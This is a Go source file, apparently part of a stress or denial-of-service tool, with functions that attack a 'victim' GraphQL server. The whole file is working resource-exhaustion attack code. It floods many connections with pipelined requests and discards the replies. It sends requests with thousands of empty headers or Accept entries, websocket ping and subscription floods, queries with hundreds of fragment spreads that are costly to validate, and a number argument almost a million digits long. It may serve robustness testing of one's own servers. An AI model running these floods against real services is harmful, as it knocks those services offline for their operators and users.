package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// noDeadline lifts a deadline.
var noDeadline time.Time //nolint:gochecknoglobals // a constant

// pipelines sends a text on so many connections again and again, without waiting for answers, which are read and dropped.
func pipelines(connections int, first, again string) func(context.Context, *victim) (string, error) {
	return func(ctx context.Context, v *victim) (string, error) {
		h := v.held()
		var everyone sync.WaitGroup
		var read atomic.Int64
		for i := 0; i < connections && ctx.Err() == nil; i++ {
			conn := h.connect(ctx, first)
			if conn == nil {
				continue
			}
			everyone.Go(func() { sendAgain(ctx, conn, again) })
			everyone.Go(func() {
				n, _ := io.Copy(io.Discard, conn)
				read.Add(n)
			})
		}
		<-ctx.Done()
		h.end()
		everyone.Wait()
		return fmt.Sprintf("%d MB on %d connections", read.Load()>>20, len(h.open)), nil
	}
}

func sendAgain(ctx context.Context, conn net.Conn, text string) {
	_ = conn.SetWriteDeadline(noDeadline)
	for ctx.Err() == nil {
		if _, err := io.WriteString(conn, text); err != nil {
			return
		}
	}
}

const alive = "GET /healthz HTTP/1.1\r\nHost: localhost\r\n"

// Headers as long as they may be.
func manyHeaders() string { return alive + strings.Repeat("a:\r\n", 3_900) + "\r\n" }

func longAccept() string {
	body := `{"query":"{__typename}"}`
	return strings.Replace(requestText("/graphql", len(body), body), "\r\n\r\n",
		"\r\nAccept: text/event-stream;q=0"+strings.Repeat(",a", 7_500)+"\r\n\r\n", 1)
}

func pings() (first, again string) {
	say := func(text string) string { return frame(len(text), text) }
	return upgrade + say(`{"type":"connection_init"}`), strings.Repeat(say(`{"type":"ping"}`), 100)
}

// dearOnSockets sends documents that are dear to validate, on four sockets at once.
func dearOnSockets(ctx context.Context, v *victim) (string, error) {
	say := func(text string) string { return frame(len(text), text) }
	first, _ := pings()
	next := fresh("{node(id:\"x\"){" + strings.Repeat("... on Order{id}", 440) + "}}")
	var sent atomic.Int64
	var everyone sync.WaitGroup
	h := v.held()
	for range 4 {
		conn := h.connect(ctx, first)
		if conn == nil {
			continue
		}
		everyone.Go(func() { _, _ = io.Copy(io.Discard, conn) })
		everyone.Go(func() {
			for ctx.Err() == nil {
				_ = conn.SetWriteDeadline(noDeadline)
				message := fmt.Sprintf(`{"id":"%d","type":"subscribe","payload":%s}`, sent.Add(1), next().body())
				if _, err := io.WriteString(conn, say(message)); err != nil {
					return
				}
			}
		})
	}
	<-ctx.Done()
	h.end()
	everyone.Wait()
	return fmt.Sprintf("%d documents sent", sent.Load()), nil
}

// quoted has what is wrong in a document told again for each operation.
func quoted(*victim) func() operation {
	var operations strings.Builder
	for i := range 99 {
		fmt.Fprintf(&operations, "query a%d{...F}", i)
	}
	return fresh(operations.String() + "fragment F on Query{products(first:" + strings.Repeat("9", 990_000) + "){nodes{id}}}")
}
